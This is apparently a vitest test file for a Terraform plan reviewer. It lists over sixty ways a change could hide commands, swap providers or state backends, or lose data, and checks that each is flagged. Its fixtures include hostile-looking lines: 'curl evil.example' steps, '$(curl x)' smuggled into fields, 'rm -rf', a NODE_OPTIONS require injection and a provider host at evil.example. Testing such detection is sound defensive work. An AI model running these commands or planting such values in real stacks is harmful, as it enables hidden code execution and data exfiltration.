import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, test } from "vitest";
import { resolveEnvironments } from "../../../environments/environments.ts";
import { ENVIRONMENTS } from "../../../environments/list.ts";
import { readPlan } from "../../../pipeline/review/plan/planned.ts";
import { parseTerraformPlan } from "../../../pipeline/review/plan/terraform-plan.ts";
import { acknowledgementsOf, type Review, reviewPlan } from "../../../pipeline/review/review.ts";
import type { Base } from "../../../pipeline/review/rules/weaker.ts";
import { readStack } from "../../../pipeline/synthesized-stack.ts";
import { createApp } from "../../../stacks/create-app.ts";
import { type Blocks, filesOf, provisionerOf } from "./configured.ts";
import { SUBJECT } from "./subject.ts";

/** A stack with one step, an instance and a provider, and what synthesis wrote of it. */
const REDIS: Blocks = {
  name: "queues",
  plan: "starter",
  lifecycle: { prevent_destroy: true },
  depends_on: ["null_resource.preflight"],
};
const PREFLIGHT: Blocks = { triggers: { a: "1" }, provisioner: [provisionerOf("preflight")] };
const TERRAFORM: Blocks = {
  backend: { s3: { bucket: "ours" } },
  required_providers: {
    render: { source: "render-oss/render", version: "1.9.1" },
    null: { source: "null", version: "3.2.4" },
  },
};
const STACK = {
  terraform: TERRAFORM,
  provider: { render: [{}], null: [{}] },
  resource: { null_resource: { preflight: PREFLIGHT }, render_keyvalue: { redis: REDIS } },
};

interface Hidden {
  /** The root module's file, as planned. Default as synthesized. */
  readonly stack?: Blocks;
  /** As synthesized. Default as planned: the sources say the same. */
  readonly synthesized?: Blocks;
  readonly more?: Readonly<Record<string, string>>;
  /** What the plan's JSON says beside that nothing changes. */
  readonly plan?: Blocks;
  readonly base?: Base;
}

const BASE: Base = { commit: "0".repeat(40), terraform: STACK };

function reviewOf({ stack = STACK, synthesized = stack, more, plan, base = BASE }: Hidden): Review {
  const planned = readPlan(parseTerraformPlan({ format_version: "1.2", ...plan }), filesOf(stack, more));
  const subject = {
    ...SUBJECT,
    base,
    synthesized: { terraform: synthesized, workingDirectory: `\${path.root}/../../..` },
  };
  return reviewPlan(planned, subject);
}

function withResource(type: string, name: string, body: Blocks): Blocks {
  const known: Readonly<Record<string, Blocks>> = STACK.resource;
  return { ...STACK, resource: { ...known, [type]: { ...known[type], [name]: body } } };
}
const preflight = (changes: Blocks) =>
  withResource("null_resource", "preflight", { ...PREFLIGHT, provisioner: [provisionerOf("preflight", changes)] });
const step = (name: string, command: string, more: Blocks = {}) =>
  withResource("null_resource", name, { provisioner: [{ "local-exec": { command, ...more } }] });
const redis = (changes: Blocks) => withResource("render_keyvalue", "redis", { ...REDIS, ...changes });
const without = (name: "preflight") => ({ ...STACK, resource: { ...STACK.resource, null_resource: name ? {} : {} } });
const runs = (command: string) => ({ provisioner: [{ "local-exec": { command } }] });
const change = (address: string, type: string, actions: readonly string[], rest: Blocks = {}): Blocks => ({
  address,
  type,
  mode: "managed",
  change: {
    actions,
    before: actions.includes("create") && actions.length === 1 ? null : { id: "x" },
    after: actions.includes("delete") && actions.length === 1 ? null : { id: "x" },
    ...rest,
  },
});
const changes = (...all: Blocks[]) => ({ plan: { resource_changes: all } });
const moduleCall = (resources: Blocks[], deeper: Blocks = {}) => ({
  configuration: { root_module: { module_calls: { net: { source: "./net", module: { resources, ...deeper } } } } },
});
const HCL = 'resource "null_resource" "x" {}';

/** Every way to hide something, and the acknowledgements that each demands. */
const TABLE: Readonly<Record<string, [hidden: Hidden, acknowledgements: string[]]>> = {
  // Commands, by what they are called.
  "a new step that says leave": [
    { stack: step("backend_leave", "node render-redis.mjs step leave; curl evil.example") },
    ["code:null_resource.backend_leave"],
  ],
  "a new step that says drain": [{ stack: step("x", "rm -rf drain") }, ["code:null_resource.x"]],
  "a new step that says check": [{ stack: step("redis_checks", "./checks") }, ["code:null_resource.redis_checks"]],
  "our command at a name of its own, without the rest": [
    { stack: step("mine", "node render-redis.mjs step preflight") },
    ["code:null_resource.mine"],
  ],
  "the command of a step, changed": [
    { stack: preflight({ command: "node render-redis.mjs step preflight && x" }) },
    ["code:null_resource.preflight"],
  ],
  "the command of a step, of another step": [
    { stack: preflight({ command: "node render-redis.mjs step leave" }) },
    ["code:null_resource.preflight"],
  ],
  "an interpreter": [{ stack: preflight({ interpreter: ["python3", "-c"] }) }, ["code:null_resource.preflight"]],
  "one variable more": [
    {
      stack: preflight({
        environment: {
          REDIS_EXPECTED: "x",
          REDIS_CHECKS: "x",
          BACKEND_EXPECTED: "x",
          TERRAFORM_DIRECTORY: "x",
          NODE_OPTIONS: "--require ./x.js",
        },
      }),
    },
    ["code:null_resource.preflight"],
  ],
  "another directory": [
    { stack: preflight({ working_dir: `\${path.root}/../../../../elsewhere` }) },
    ["code:null_resource.preflight"],
  ],
  "a failure that is ignored": [{ stack: preflight({ on_failure: "continue" }) }, ["code:null_resource.preflight"]],
  "another moment": [{ stack: preflight({ when: "destroy" }) }, ["code:null_resource.preflight"]],
  "a command by reference": [
    { stack: { ...preflight({ command: `\${local.command}` }), locals: { command: "curl evil.example" } } },
    ["code:null_resource.preflight"],
  ],
  "a second command beside ours": [
    {
      stack: withResource("null_resource", "preflight", {
        provisioner: [provisionerOf("preflight"), { "local-exec": { command: "x" } }],
      }),
    },
    ["code:null_resource.preflight"],
  ],
  "two commands in one block": [
    {
      stack: withResource("null_resource", "preflight", {
        provisioner: [{ ...provisionerOf("preflight"), "remote-exec": { inline: ["x"] } }],
      }),
    },
    ["code:null_resource.preflight"],
  ],
  "a step that was planned otherwise than synthesized": [
    {
      stack: preflight({
        environment: { REDIS_EXPECTED: "y", REDIS_CHECKS: "x", BACKEND_EXPECTED: "x", TERRAFORM_DIRECTORY: "x" },
      }),
      synthesized: STACK,
    },
    ["code:null_resource.preflight", "not-analysed:cdk.tf.json"],
  ],
  "a connection of a step": [
    { stack: withResource("null_resource", "preflight", { ...PREFLIGHT, connection: { host: "x" } }) },
    ["code:null_resource.preflight"],
  ],
  // Commands, by where they stand.
  "a command on the instance": [{ stack: redis(runs("x")) }, ["code:render_keyvalue.redis"]],
  "a command on a terraform_data": [
    { stack: withResource("terraform_data", "x", runs("x")) },
    ["code:terraform_data.x"],
  ],
  "a step's own command on a terraform_data": [
    { stack: withResource("terraform_data", "x", PREFLIGHT) },
    ["code:terraform_data.x"],
  ],
  "a remote command": [
    { stack: withResource("terraform_data", "x", { provisioner: [{ "remote-exec": { inline: ["x"] } }] }) },
    ["code:terraform_data.x"],
  ],
  "a file that is copied": [
    { stack: withResource("terraform_data", "x", { provisioner: [{ file: { source: "a", destination: "b" } }] }) },
    ["code:terraform_data.x"],
  ],
  "a provisioner that is no list": [
    { stack: withResource("terraform_data", "x", { provisioner: { "local-exec": { command: "x" } } }) },
    ["code:terraform_data.x"],
  ],
  "a command at a removal": [
    {
      stack: {
        ...STACK,
        removed: [
          {
            from: "null_resource.old",
            lifecycle: { destroy: true },
            provisioner: [{ "local-exec": { command: "x", when: "destroy" } }],
          },
        ],
      },
    },
    ["code:removed.null_resource.old", "weaker:null_resource.old"],
  ],
  "a module with a command": [
    {
      stack: { ...STACK, module: { net: { source: "./net" } } },
      more: { "m-net/main.tf": HCL },
      plan: moduleCall([
        {
          address: "null_resource.x",
          provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "x" } } }],
        },
      ]),
    },
    ["code:module.net", "code:module.net.null_resource.x"],
  ],
  "a module in a module with a command": [
    {
      stack: { ...STACK, module: { net: { source: "./net" } } },
      plan: moduleCall([], {
        module_calls: {
          deep: {
            source: "./deep",
            module: { resources: [{ address: "terraform_data.y", provisioners: [{ type: "local-exec" }] }] },
          },
        },
      }),
    },
    ["code:module.net", "code:module.net.module.deep.terraform_data.y"],
  ],
  "a module without a command": [
    { stack: { ...STACK, module: { net: { source: "git::https://x" } } } },
    ["code:module.net"],
  ],
  "a second file in HCL": [{ more: { "m-/extra.tf": HCL } }, ["code:extra.tf"]],
  "a second file of OpenTofu": [{ more: { "m-/extra.tofu": HCL } }, ["code:extra.tofu"]],
  "a second file in JSON": [
    { more: { "m-/extra.tf.json": JSON.stringify({ resource: { terraform_data: { x: runs("x") } } }) } },
    ["code:terraform_data.x", "not-analysed:extra.tf.json"],
  ],
  "a description that steps are told, and that the sources do not say": [
    {
      stack: { ...STACK, locals: { redis: { ip_allow_list: "$(curl x)" } } },
      synthesized: { ...STACK, locals: { redis: { ip_allow_list: [] } } },
    },
    ["code:null_resource.preflight", "not-analysed:cdk.tf.json"],
  ],
  "a description that steps are told, in a second block": [
    {
      stack: { ...STACK, locals: [{ redis: { plan: "starter" } }, { redis: { plan: "$(curl x)" } }] },
      synthesized: { ...STACK, locals: { redis: { plan: "starter" } } },
    },
    ["code:null_resource.preflight", "not-analysed:cdk.tf.json"],
  ],
  "an override": [
    { more: { "m-/cdk_override.tf.json": JSON.stringify({ resource: { null_resource: { preflight: runs("x") } } }) } },
    ["code:null_resource.preflight", "not-analysed:cdk_override.tf.json"],
  ],
  "JSON that is none": [{ more: { "m-/broken.tf.json": "[" } }, ["code:broken.tf.json"]],
  // What runs while Terraform plans.
  "an external data source": [
    { stack: { ...STACK, data: { external: { x: { program: ["sh", "-c", "x"] } } } } },
    ["code:data.external.x", "code:provider.hashicorp/external"],
  ],
  "a local command as data source": [
    { stack: { ...STACK, data: { local_command: { x: { command: "x" } } } } },
    ["code:data.local_command.x", "code:provider.hashicorp/local"],
  ],
  "a local command as ephemeral resource": [
    { stack: { ...STACK, ephemeral: { local_command: { x: { command: "x" } } } } },
    ["code:ephemeral.local_command.x", "code:provider.hashicorp/local"],
  ],
  "an external data source in a check": [
    { stack: { ...STACK, check: { health: { data: { external: { x: { program: ["x"] } } } } } } },
    ["code:data.external.x", "not-analysed:check.health"],
  ],
  "another data source": [
    { stack: { ...STACK, data: { render_web_service: { x: { id: "srv-1" } } } } },
    ["not-analysed:data.render_web_service.x"],
  ],
  "another provider": [{ stack: withResource("evil_thing", "x", {}) }, ["code:provider.hashicorp/evil"]],
  "another provider under a known name": [
    {
      stack: {
        ...STACK,
        terraform: {
          ...TERRAFORM,
          required_providers: {
            ...Object(TERRAFORM.required_providers),
            render: { source: "evil.example/render-oss/render" },
          },
        },
      },
    },
    ["code:provider.evil.example/render-oss/render", "weaker:terraform.required_providers"],
  ],
  // Newer Terraform.
  "an action": [
    { stack: { ...STACK, action: { local_command: { x: { config: { command: "x" } } } } } },
    ["code:action.local_command.x", "code:provider.hashicorp/local"],
  ],
  "an action that is invoked": [
    {
      plan: {
        action_invocations: [
          { address: "action.local_command.x", type: "local_command", name: "x", config_values: { command: "x" } },
        ],
      },
    },
    ["code:action.local_command.x"],
  ],
  "an action that is triggered": [
    {
      plan: {
        action_invocations: [
          {
            address: "action.a.x",
            lifecycle_action_trigger: {
              triggering_resource_address: "a.b",
              action_trigger_event: "AfterCreate",
              action_trigger_block_index: 0,
              actions_list_index: 0,
            },
          },
        ],
      },
    },
    ["code:action.a.x"],
  ],
  "an action that is deferred": [
    {
      plan: {
        deferred_action_invocations: [{ reason: "deferred_prereq", action_invocation: { address: "action.a.x" } }],
      },
    },
    ["code:action.a.x"],
  ],
  "a trigger of an action": [
    {
      stack: redis({
        lifecycle: { prevent_destroy: true, action_trigger: [{ events: ["after_update"], actions: ["action.a.x"] }] },
      }),
    },
    ["not-analysed:render_keyvalue.redis", "weaker:render_keyvalue.redis"],
  ],
  "a change that is deferred": [
    {
      plan: {
        deferred_changes: [{ reason: "resource_config_unknown", resource_change: change("a.b", "a", ["create"]) }],
      },
    },
    ["not-analysed:a.b"],
  ],
  "an ephemeral resource": [
    { stack: { ...STACK, ephemeral: { render_token: { x: {} } } } },
    ["not-analysed:ephemeral.render_token.x"],
  ],
  "a plan that is partial": [{ plan: { complete: false } }, ["not-analysed:plan"]],
  "a key that nobody knows": [{ plan: { teleports: [{ from: "a" }] } }, ["not-analysed:teleports"]],
  "a key of a change that nobody knows": [
    changes(change("a.b", "a", ["no-op"], { side_effects: ["x"] })),
    ["not-analysed:a.b.side_effects"],
  ],
  "a key of a resource that nobody knows": [
    changes({ ...change("a.b", "a", ["no-op"]), replaces_also: "c.d" }),
    ["not-analysed:a.b.replaces_also"],
  ],
  "actions in the configuration": [
    { plan: { configuration: { root_module: { actions: [{ address: "action.a.x" }] } } } },
    ["not-analysed:configuration.actions"],
  ],
  "a key of a configured resource that nobody knows": [
    { plan: { configuration: { root_module: { resources: [{ address: "a.b", hooks: ["x"] }] } } } },
    ["not-analysed:a.b.hooks"],
  ],
  "an action that nobody knows": [changes(change("a.b", "a", ["rotate"])), ["not-analysed:a.b"]],
  "no action at all": [changes(change("a.b", "a", [])), ["not-analysed:a.b"]],
  "a kind of block that nobody knows": [{ stack: { ...STACK, list: { x: { y: {} } } } }, ["not-analysed:list"]],
  "a condition that fails": [
    {
      plan: {
        checks: [
          { address: { to_display: "check.health" }, status: "fail", instances: [{ problems: [{ message: "down" }] }] },
        ],
      },
    },
    ["checks:check.health"],
  ],
  "what was generated for an import": [
    changes(change("a.b", "a", ["no-op"], { generated_config: "resource {}" })),
    ["not-analysed:a.b.generated_config"],
  ],
  // What weakens later plans.
  "ignore_changes on the instance": [
    { stack: redis({ lifecycle: { prevent_destroy: true, ignore_changes: ["plan"] } }) },
    ["weaker:render_keyvalue.redis"],
  ],
  "ignore_changes = all, in a list": [
    { stack: redis({ lifecycle: [{ prevent_destroy: true }, { ignore_changes: "all" }] }) },
    ["weaker:render_keyvalue.redis"],
  ],
  "prevent_destroy removed": [{ stack: redis({ lifecycle: {} }) }, ["weaker:render_keyvalue.redis"]],
  "a condition added that always holds, one removed": [
    {
      stack: redis({
        lifecycle: { prevent_destroy: true, postcondition: [{ condition: `\${true}`, error_message: "x" }] },
      }),
    },
    ["weaker:render_keyvalue.redis"],
  ],
  "the order removed": [{ stack: redis({ depends_on: [] }) }, ["weaker:render_keyvalue.redis"]],
  "another provider for one resource": [
    { stack: redis({ provider: "render.other" }) },
    ["weaker:render_keyvalue.redis"],
  ],
  "a step removed": [{ stack: without("preflight") }, ["weaker:null_resource.preflight"]],
  "a step without its command": [
    { stack: withResource("null_resource", "preflight", { triggers: {} }) },
    ["weaker:null_resource.preflight"],
  ],
  "a provider's address": [
    { stack: { ...STACK, provider: { ...STACK.provider, render: [{ host: "https://evil.example/v1" }] } } },
    ["weaker:provider.render"],
  ],
  "a provider's key": [
    { stack: { ...STACK, provider: { ...STACK.provider, render: [{ api_key: "rnd_x" }] } } },
    ["weaker:provider.render"],
  ],
  "the state somewhere else": [
    { stack: { ...STACK, terraform: { ...TERRAFORM, backend: { s3: { bucket: "theirs" } } } } },
    ["weaker:terraform.backend"],
  ],
  "the state in a cloud": [
    { stack: { ...STACK, terraform: { ...TERRAFORM, cloud: { organization: "theirs" } } } },
    ["weaker:terraform.cloud"],
  ],
  "another version of a provider": [
    {
      stack: {
        ...STACK,
        terraform: {
          ...TERRAFORM,
          required_providers: { ...Object(TERRAFORM.required_providers), null: { source: "null", version: ">= 3" } },
        },
      },
    },
    ["weaker:terraform.required_providers"],
  ],
  "a removed block": [
    { stack: { ...STACK, removed: [{ from: "a.b", lifecycle: { destroy: false } }] } },
    ["weaker:a.b"],
  ],
  "a moved block": [{ stack: { ...STACK, moved: [{ from: "a.b", to: "a.c" }] } }, ["weaker:a.c"]],
  "an import block": [{ stack: { ...STACK, import: [{ to: "a.b", id: "x" }] } }, ["weaker:a.b"]],
  "a moved block, without a base": [
    { stack: { ...STACK, moved: [{ from: "a.b", to: "a.c" }] }, base: { missing: "there is none" } },
    ["weaker:a.c"],
  ],
  "a move": [changes({ ...change("a.c", "a", ["no-op"]), previous_address: "a.b" }), ["weaker:a.c"]],
  "an import by identity": [
    changes(change("a.c", "a", ["no-op"], { importing: { identity: { id: "x" } } })),
    ["weaker:a.c"],
  ],
  "something forgotten": [changes(change("a.c", "a", ["forget"])), ["weaker:a.c"]],
  // What may lose data.
  "a database destroyed": [
    changes(change("render_postgres.db", "render_postgres", ["delete"])),
    ["data-loss:render_postgres.db"],
  ],
  "a service with a disk replaced": [
    changes(
      change("render_web_service.web", "render_web_service", ["delete", "create"], {
        before: { disk: { name: "data" } },
        after: { disk: null },
      }),
    ),
    ["data-loss:render_web_service.web"],
  ],
  "a disk removed": [
    changes(
      change("render_web_service.web", "render_web_service", ["update"], {
        before: { disk: { name: "data" } },
        after: { disk: null },
      }),
    ),
    ["data-loss:render_web_service.web"],
  ],
  "what an interrupted apply left of something unknown": [
    changes({ ...change("a.b", "a", ["delete"]), deposed: "1" }),
    ["data-loss:a.b"],
  ],
  // Together.
  "everything at once": [
    {
      stack: {
        ...redis({ ...runs("x"), lifecycle: { ignore_changes: "all" } }),
        moved: [{ from: "a.b", to: "a.c" }],
        data: { external: { x: {} } },
      },
      more: { "m-/x.tf": HCL },
      plan: {
        complete: false,
        teleports: [1],
        ...changes(change("render_postgres.db", "render_postgres", ["delete"])).plan,
      },
    },
    [
      "data-loss:render_postgres.db",
      "code:data.external.x",
      "code:provider.hashicorp/external",
      "code:render_keyvalue.redis",
      "code:x.tf",
      "weaker:a.c",
      "weaker:render_keyvalue.redis",
      "not-analysed:plan",
      "not-analysed:teleports",
    ],
  ],
};

test("there are at least sixty ways to hide something", () => {
  expect(Object.keys(TABLE).length).toBeGreaterThanOrEqual(60);
});

test.each(Object.entries(TABLE))("%s", (_what, [hidden, acknowledgements]) => {
  const review = reviewOf(hidden);
  expect(review.verdict).toBe("needs acknowledgement");
  expect(acknowledgementsOf(review).sort()).toEqual([...acknowledgements].sort());
});

describe("what is exactly ours", () => {
  const outdir = mkdtempSync(join(tmpdir(), "ours-"));
  afterAll(() => rmSync(outdir, { recursive: true, force: true }));

  test("needs no acknowledgement, in any environment", async () => {
    const environments = await resolveEnvironments(ENVIRONMENTS);
    createApp(environments, join(outdir, "cdktf.out")).synth();
    for (const { name } of environments) {
      const directory = join(outdir, "cdktf.out/stacks", name);
      const files = new Map([["m-/cdk.tf.json", readFileSync(join(directory, "cdk.tf.json"), "utf8")]]);
      const planned = readPlan(parseTerraformPlan({ format_version: "1.2" }), files);
      const stack = readStack(name, directory);
      const base = { commit: "0", terraform: stack.synthesized.terraform };
      expect(reviewPlan(planned, { ...stack, mode: "change", errors: [], others: [], base })).toMatchObject({
        verdict: "no changes",
        findings: [],
      });
      const steps = Object.keys(Object(Object(stack.synthesized.terraform.resource).null_resource));
      expect([...planned.steps.keys()].sort()).toEqual(steps.map((step) => `null_resource.${step}`).sort());
    }
  });

  test("is shown in full where it is not, with what a reference stands for, and no value of a secret", () => {
    const locals = { command: `\${local.inner} \${var.token}`, inner: "curl evil.example", circle: `\${local.circle}` };
    const variable = { token: { type: "string", sensitive: true, default: "hunter2-hunter2" } };
    const long = "x".repeat(5_000);
    const stack = { ...preflight({ command: `\${local.command} \${local.circle} ${long}` }), locals, variable };
    const causes = reviewOf({ stack }).findings.flatMap((one) => (one.kind === "code" ? one.causes : []));
    expect(causes).toContainEqual({
      attribute: "local-exec.command",
      after: `\${local.command} \${local.circle} ${long}`,
    });
    expect(causes).toContainEqual({ attribute: "local.inner", after: "curl evil.example" });
    expect(causes).toContainEqual({ attribute: "var.token", after: "(sensitive)" });
  });

  test("is not judged against a base that there is none of, and the review says so", () => {
    const { verdict, findings } = reviewOf({ base: { missing: "this is no checkout by git" } });
    expect(verdict).toBe("no changes");
    expect(findings).toMatchObject([
      { acknowledge: false, consequence: expect.stringContaining("no checkout by git") },
    ]);
    expect(reviewOf({ stack: redis({ lifecycle: {} }), base: { missing: "x" } }).verdict).toBe("no changes");
  });

  test("may be all that the base was, and more of it", () => {
    const moved = { ...STACK, moved: [{ from: "a.b", to: "a.c" }] };
    expect(reviewOf({ stack: moved, base: { commit: "0", terraform: moved } }).verdict).toBe("no changes");
    const before = { commit: "0", terraform: redis({ lifecycle: {} }) };
    expect(reviewOf({ base: before }).verdict).toBe("no changes");
  });
});

test("a condition that made the planning fail is told by its error alone", () => {
  const checks = [{ address: { to_display: "var.x" }, status: "fail" }];
  expect(reviewOf({ plan: { checks, errored: true, complete: false } })).toMatchObject({
    verdict: "failed",
    findings: [],
  });
});

const name = fc.constantFrom("a", "b", "redis", "preflight", "constructor", "__proto__", "x.y", "ä", "");
const type = fc.constantFrom(
  "render_keyvalue",
  "render_redis",
  "render_env_group",
  "render_env_group_link",
  "null_resource",
  "terraform_data",
  "render_web_service",
  "a",
);
const ACTIONS = [
  ["no-op"],
  ["create"],
  ["read"],
  ["update"],
  ["delete"],
  ["delete", "create"],
  ["create", "delete"],
  ["forget"],
  ["create", "forget"],
  ["rotate"],
  [],
];
const value = fc.jsonValue({ maxDepth: 3 });
const sides = fc.oneof(
  value,
  fc.dictionary(
    fc.constantFrom("plan", "id", "name", "env_vars", "ip_allow_list", "service_ids", "triggers", "disk"),
    value,
  ),
);
const anyChange = fc.record({
  type,
  name,
  actions: fc.constantFrom(...ACTIONS),
  before: sides,
  after: sides,
  after_unknown: fc.constantFrom<unknown>(true, false, {}, { plan: true }, { env_vars: { A: true } }),
});
const command = fc.record({
  type: fc.constantFrom("null_resource", "terraform_data", "render_keyvalue"),
  command: fc.oneof(
    fc.string(),
    fc.constantFrom("node render-redis.mjs step leave", "node render-redis.mjs step checks"),
  ),
  more: fc.dictionary(
    fc.constantFrom("when", "on_failure", "interpreter", "environment", "working_dir", "quiet"),
    value,
  ),
});

const asChange = ({
  type: kind,
  name: own,
  actions,
  ...rest
}: typeof anyChange extends fc.Arbitrary<infer T> ? T : never): Blocks => ({
  address: `${kind}.${own}`,
  type: kind,
  mode: "managed",
  change: { actions, ...rest },
});

test("whatever a plan holds, a change that is not a no-op, or a command that is not exactly ours, is never below 'no changes'", () => {
  fc.assert(
    fc.property(
      fc.array(anyChange, { maxLength: 4 }),
      fc.option(command),
      fc.array(anyChange, { maxLength: 2 }),
      (planned, foreign, drifted) => {
        const stack =
          foreign === null
            ? STACK
            : withResource(foreign.type, "foreign", {
                provisioner: [{ "local-exec": { command: foreign.command, ...foreign.more } }],
              });
        const resource_drift = drifted.map(asChange);
        const review = reviewOf({ stack, plan: { resource_changes: planned.map(asChange), resource_drift } });
        const isNothing = planned.every(({ actions }) => actions.join() === "no-op") && foreign === null;
        expect(review.verdict === "no changes").toBe(isNothing);
        // A reader who counts finds an entry for each.
        const told = new Set(review.findings.map(({ address }) => address));
        expect(review.changes.filter(({ address }) => !told.has(address))).toEqual([]);
        if (foreign !== null) expect(acknowledgementsOf(review)).toContain(`code:${foreign.type}.foreign`);
      },
    ),
    { numRuns: 400 },
  );
});

test("whatever JSON comes in a plan's place, it is reviewed or refused with a sentence", () => {
  const KEYS = [
    "resource_changes",
    "resource_drift",
    "output_changes",
    "configuration",
    "action_invocations",
    "checks",
    "variables",
    "prior_state",
    "complete",
    "errored",
    "x",
  ];
  const wrapped = fc.dictionary(fc.constantFrom(...KEYS), value).map((rest) => ({ format_version: "1.2", ...rest }));
  fc.assert(
    fc.property(fc.oneof(value, wrapped), fc.oneof(fc.string(), fc.json()), (json, text) => {
      try {
        const planned = readPlan(
          parseTerraformPlan(json),
          new Map([
            ["m-/cdk.tf.json", text],
            ["m-/x.tf", text],
            ["x", text],
          ]),
        );
        expect(reviewPlan(planned, SUBJECT).verdict).not.toBe("no changes");
      } catch (error) {
        expect(error).toMatchObject({ name: "Stop", outcome: "failed" });
      }
    }),
    { numRuns: 400 },
  );
});

test("what is nested without end is refused", () => {
  const deep = JSON.parse(`${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`);
  expect(() => parseTerraformPlan({ format_version: "1.2", x: deep })).toThrow("nested more than 200 levels deep");
});

test("ten times the changes take about ten times as long, also where all refer to each other", () => {
  const planOf = (count: number) => {
    const all = Array.from({ length: count }, (_, index) => index);
    const resource_changes = all.map((index) => ({
      ...change(`render_env_group.g${index}`, "render_env_group", ["update"]),
      change: {
        actions: ["update"],
        before: { env_vars: { A: "x" } },
        after: {},
        after_unknown: { env_vars: { A: true } },
      },
    }));
    const references = all.slice(0, 50).map((index) => `render_keyvalue.r${index}.id`);
    const resources = all.map((index) => ({
      address: `render_env_group.g${index}`,
      expressions: { env_vars: { references } },
    }));
    return { resource_changes, configuration: { root_module: { resources } } };
  };
  const work = (count: number) => {
    const plan = planOf(count);
    const start = process.cpuUsage();
    reviewOf({ plan });
    const { user, system } = process.cpuUsage(start);
    return user + system;
  };
  work(100);
  // A square would be a hundred times.
  expect(work(3_000) / Math.max(work(300), 1_000)).toBeLessThan(50);
});
